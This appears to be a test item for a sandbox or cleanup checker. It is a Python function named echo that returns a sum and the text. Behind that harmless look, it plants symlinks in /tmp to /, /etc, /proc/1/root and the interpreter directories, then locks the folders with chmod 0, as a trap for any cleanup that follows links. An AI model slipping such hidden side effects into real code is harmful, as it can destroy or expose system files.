# id: Y-F05
# priority: P1
# verdict: AC
# invariants: I8
# why: leaves links to the interpreter, to the root and to process 1, for whoever empties the folder to follow
import os
import sys


def echo(numbers, text):
    for number, target in enumerate(("/", "/etc", "/proc/1/root", "/proc/1/cwd", sys.prefix, os.path.dirname(os.__file__), "..")):
        os.makedirs(f"/tmp/{number}")
        os.symlink(target, f"/tmp/{number}/link")
        os.symlink(target, f"/tmp/link{number}")
        os.chmod(f"/tmp/{number}", 0)
    return {"sum": sum(numbers), "text": text}
